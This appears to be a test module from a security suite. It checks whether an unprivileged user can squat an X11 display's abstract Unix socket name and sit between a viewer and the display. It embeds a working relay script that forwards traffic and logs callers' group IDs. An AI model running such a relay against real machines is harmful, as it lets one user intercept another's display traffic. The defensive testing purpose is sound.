"""A user without a grant stands between the viewer and a display with no abstract socket, at the name of that."""

from attacks.stage import Stage

RECIPE = "succeeds"
STOPPED_BY = "viewer: it knows its display by a number of its own, which nobody else can tell"
NEEDS = ("Xvfb", "xwininfo")
# Passes on what callers and the display say to each other; says as which groups they called when asked.
RELAY = """
import contextlib, threading
callers = set()

def passed(origin, target):
    with contextlib.suppress(OSError):
        while data := origin.recv(65536):
            target.sendall(data)
        target.shutdown(socket.SHUT_WR)

def served(caller):
    credentials = caller.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12)
    display = socket.socket(socket.AF_UNIX)
    display.connect(sys.argv[1])
    callers.add(struct.unpack("3i", credentials)[2])
    threading.Thread(target=passed, args=(caller, display), daemon=True).start()
    passed(display, caller)

def accepted(server):
    while True:
        threading.Thread(target=served, args=server.accept()[:1], daemon=True).start()

server = socket.socket(socket.AF_UNIX)
server.bind("\\0" + sys.argv[1])
server.listen()
threading.Thread(target=accepted, args=(server,), daemon=True).start()
print("listening", flush=True)
for _ in sys.stdin:
    print(*callers, flush=True)
"""


def attack(client):
    relay = client.start(RELAY, "/tmp/.X11-unix/X0", user="visitor")  # noqa: S108
    stage = Stage(client, code=False, abstract=False)
    stage.view()
    stage.desktop.windows()  # another program that calls the display
    callers = relay.tell().split()
    assert callers, "not even other programs call there: this says nothing"
    return str(stage.gid) in callers
